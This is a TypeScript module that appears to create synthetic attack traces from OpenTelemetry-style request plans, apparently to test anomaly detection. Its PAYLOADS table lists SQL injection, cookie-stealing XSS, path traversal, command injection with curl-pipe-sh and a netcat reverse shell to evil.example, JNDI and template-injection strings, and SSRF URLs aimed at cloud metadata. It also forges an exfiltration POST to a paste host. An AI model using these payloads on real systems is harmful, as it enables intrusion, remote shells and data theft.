/**
 * What an attack makes of a request: a plan → the plan of the same request abused, or undefined where that kind cannot be done to
 * it. Other spans keep their times.
 */

import { SpanKind, StatusCode } from '../../schemas/otlp/fields.ts';
import type { Random } from '../load/random.ts';
import type { Attribute, Plan, PlannedSpan } from './plan.ts';

export const STRUCTURAL_ATTACKS = ['missing-authorisation', 'missing', 'moved', 'repeated', 'foreign'] as const;
export const PARAMETER_ATTACKS = ['sqli', 'xss', 'traversal', 'command', 'jndi', 'template', 'ssrf'] as const;
export const TIMING_ATTACKS = ['slow', 'fast'] as const;

export type AttackKind =
  | (typeof STRUCTURAL_ATTACKS)[number]
  | (typeof PARAMETER_ATTACKS)[number]
  | (typeof TIMING_ATTACKS)[number];

export function attack(plan: Plan, kind: AttackKind, random: Random): Plan | undefined {
  const { spans } = plan;
  const succeeded =
    spans[0]!.status !== StatusCode.error && attributeOf(spans[0]!, 'http.response.status_code') === 200;
  if (!succeeded) return undefined;
  switch (kind) {
    case 'missing-authorisation': {
      const check = spans.findIndex((span) => span.kind === SpanKind.client && span.name === plan.system.authorisation);
      return check < 0 || spans[check]!.status === StatusCode.error ? undefined : changed(plan, without(spans, check));
    }
    case 'missing':
      return spans.length < 2 ? undefined : changed(plan, without(spans, 1 + random.below(spans.length - 1)));
    case 'moved':
      return moved(plan, random);
    case 'repeated': {
      if (spans.length < 2) return undefined;
      const which = 1 + random.below(spans.length - 1);
      let longer: readonly PlannedSpan[] = spans;
      for (let i = 0; i < 9; i++) longer = [...longer, ...copied(spans, which, longer.length, i + 1)];
      return changed(plan, longer);
    }
    case 'foreign':
      return foreign(plan, random);
    case 'slow':
    case 'fast':
      return stretched(plan, random, kind === 'slow' ? 30 : 0.03);
    default:
      return poisoned(plan, kind, random);
  }
}

const changed = (plan: Plan, spans: readonly PlannedSpan[]): Plan => ({ ...plan, spans: [...spans] });

export const attributeOf = ({ attributes }: PlannedSpan, key: string): Attribute | undefined => {
  for (let i = 0; i < attributes.length; i += 2) if (attributes[i] === key) return attributes[i + 1];
  return undefined;
};

/** The spans but one and all below it. */
export function without(spans: readonly PlannedSpan[], which: number): PlannedSpan[] {
  const gone = subtree(spans, which);
  const place = new Map<number, number>();
  const left: PlannedSpan[] = [];
  for (const [i, span] of spans.entries()) {
    if (gone.has(i)) continue;
    place.set(i, left.length);
    left.push({ ...span, parent: place.get(span.parent) ?? -1, link: place.get(span.link) ?? -1 });
  }
  return left;
}

export function subtree(spans: readonly PlannedSpan[], which: number): Set<number> {
  const found = new Set([which]);
  for (let i = which + 1; i < spans.length; i++) if (found.has(spans[i]!.parent)) found.add(i);
  return found;
}

/** A copy of a subtree that begins where the one before it ended; `from`: index of its first span in the plan. */
function copied(spans: readonly PlannedSpan[], which: number, from: number, times: number): PlannedSpan[] {
  const members = [...subtree(spans, which)].sort((a, b) => a - b);
  const place = new Map(members.map((member, i) => [member, from + i]));
  const shift = times * (spans[which]!.endMs - spans[which]!.startMs);
  return members.map((member) => {
    const span = spans[member]!;
    const parent = place.get(span.parent) ?? span.parent;
    return {
      ...span,
      parent,
      link: place.get(span.link) ?? span.link,
      startMs: span.startMs + shift,
      endMs: span.endMs + shift,
      attributes: [...span.attributes],
    };
  });
}

/** A subtree hangs under another span of the service that calls it or of any other. */
function moved({ spans, ...plan }: Plan, random: Random): Plan | undefined {
  if (spans.length < 4) return undefined;
  for (let tries = 0; tries < 20; tries++) {
    const which = 1 + random.below(spans.length - 1);
    const own = subtree(spans, which);
    const to = random.below(which);
    if (own.has(to) || to === spans[which]!.parent || spans[to]!.kind === SpanKind.producer) continue;
    const result = spans.map((span) => ({ ...span }));
    result[which]!.parent = to;
    return { ...plan, spans: result };
  }
  return undefined;
}

/** A call that nobody there makes: of another service, with a statement of its own, or out of the system. */
function foreign(plan: Plan, random: Random): Plan | undefined {
  const servers = plan.spans.flatMap(({ kind }, i) => (kind === SpanKind.server ? [i] : []));
  const parent = random.pick(servers);
  const { service, startMs, endMs } = plan.spans[parent]!;
  const at = startMs + (endMs - startMs) * 0.8;
  const common = {
    service,
    kind: SpanKind.client,
    parent,
    startMs: at,
    endMs: at + 1,
    status: 0,
    exception: false,
    link: -1,
  };
  const outside = random.chance(0.5);
  const span: PlannedSpan = outside
    ? {
        ...common,
        name: 'POST',
        attributes: [
          'http.request.method',
          'POST',
          'url.full',
          'https://paste.bin.example/drop',
          'server.address',
          'paste.bin.example',
          'server.port',
          443,
        ],
      }
    : {
        ...common,
        name: 'SELECT secrets',
        attributes: [
          'db.system.name',
          'postgresql',
          'db.operation.name',
          'SELECT',
          'db.collection.name',
          'secrets',
          'db.query.text',
          'SELECT * FROM secrets',
          'server.address',
          `${service}-db`,
          'server.port',
          5432,
        ],
      };
  return changed(plan, [...plan.spans, span]);
}

/** One call takes `factor` times as long, and everything that waits for it. */
function stretched(plan: Plan, random: Random, factor: number): Plan | undefined {
  const leaves = plan.spans.flatMap((span, i) =>
    i > 0 && span.kind === SpanKind.client && !plan.spans.some(({ parent }) => parent === i) ? [i] : [],
  );
  if (leaves.length === 0) return undefined;
  const which = random.pick(leaves);
  const slow = plan.spans[which]!;
  const more = (slow.endMs - slow.startMs) * (factor - 1);
  const above = new Set<number>();
  for (let i = which; i >= 0; i = plan.spans[i]!.parent) above.add(i);
  return changed(
    plan,
    plan.spans.map((span, i) => {
      if (above.has(i)) return { ...span, endMs: span.endMs + more };
      const later = span.startMs >= slow.endMs;
      return later ? { ...span, startMs: span.startMs + more, endMs: span.endMs + more } : span;
    }),
  );
}

const PAYLOADS: Readonly<Record<(typeof PARAMETER_ATTACKS)[number], readonly string[]>> = {
  sqli: [
    "1' OR '1'='1",
    "x' UNION SELECT email, digest FROM users--",
    '1; DROP TABLE orders',
    "' OR 1=1 -- ",
    "a' AND SLEEP(5)#",
  ],
  xss: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(document.cookie)>',
    '<svg/onload=fetch("//evil.example")>',
  ],
  traversal: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//windows/win.ini'],
  command: ['; cat /etc/passwd', '$(curl http://evil.example/x.sh|sh)', '| nc evil.example 4444 -e /bin/sh', '`id`'],
  jndi: [`\${jndi:ldap://evil.example/a}`, `\${\${lower:j}ndi:rmi://evil.example/x}`],
  template: ['{{7*7}}', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", `<%= system("id") %>`],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam',
    'http://127.0.0.1:8500/v1/kv/?recurse',
    'gopher://10.0.0.7:6379/_INFO',
  ],
};

/** The payload in one parameter of the entry; SQL reaches the statement that the value is written into, a link is fetched. */
function poisoned(plan: Plan, kind: (typeof PARAMETER_ATTACKS)[number], random: Random): Plan | undefined {
  const carried = plan.entry.parameters.filter(
    ({ name, place }) => parameterOf(plan.spans[0]!, name, place) !== undefined,
  );
  const link = carried.find(({ name }) => name === 'source');
  if (kind === 'ssrf' && link === undefined) return undefined;
  if (carried.length === 0) return undefined;
  const { name, place } = kind === 'ssrf' ? link! : random.pick(carried);
  const payload = random.pick(PAYLOADS[kind]);
  const root = { ...plan.spans[0]!, attributes: [...plan.spans[0]!.attributes] };
  const old = parameterOf(root, name, place)!;
  setValue(root, name, place, payload, plan.entry.route);
  const spans = plan.spans.map((span, i) => {
    if (i === 0) return root;
    const text = attributeOf(span, 'db.query.text');
    const host = attributeOf(span, 'server.address');
    if (kind === 'sqli' && typeof text === 'string' && old !== '' && text.includes(`'%${old}%'`)) {
      return { ...span, attributes: span.attributes.map((a) => (a === text ? text.replace(old, () => payload) : a)) };
    }
    if (kind === 'ssrf' && host === 'img.partner.example') {
      const url = new URL(payload.replace(/^gopher/, 'http'));
      const attributes = span.attributes.map((a) =>
        a === host
          ? url.hostname
          : a === 443
            ? Number(url.port || 80)
            : String(a).startsWith('https://')
              ? url.href
              : a,
      );
      return { ...span, attributes };
    }
    return span;
  });
  return { ...plan, spans };
}

function parameterOf(span: PlannedSpan, name: string, place: string): string | undefined {
  if (place === 'query')
    return new URLSearchParams(String(attributeOf(span, 'url.query') ?? '')).get(name) ?? undefined;
  if (place === 'path') return String(attributeOf(span, 'url.path'));
  const value = attributeOf(span, `http.request.${place}.${name}`);
  return value === undefined ? undefined : String(value);
}

function setValue(span: PlannedSpan, name: string, place: string, value: string, route: string): void {
  const key = place === 'query' ? 'url.query' : place === 'path' ? 'url.path' : `http.request.${place}.${name}`;
  const at = span.attributes.indexOf(key) + 1;
  if (place === 'query') {
    const query = new URLSearchParams(String(span.attributes[at]));
    query.set(name, value);
    span.attributes[at] = query.toString();
  } else if (place === 'path') span.attributes[at] = route.replace(`{${name}}`, () => encodeURIComponent(value));
  else span.attributes[at] = value;
}
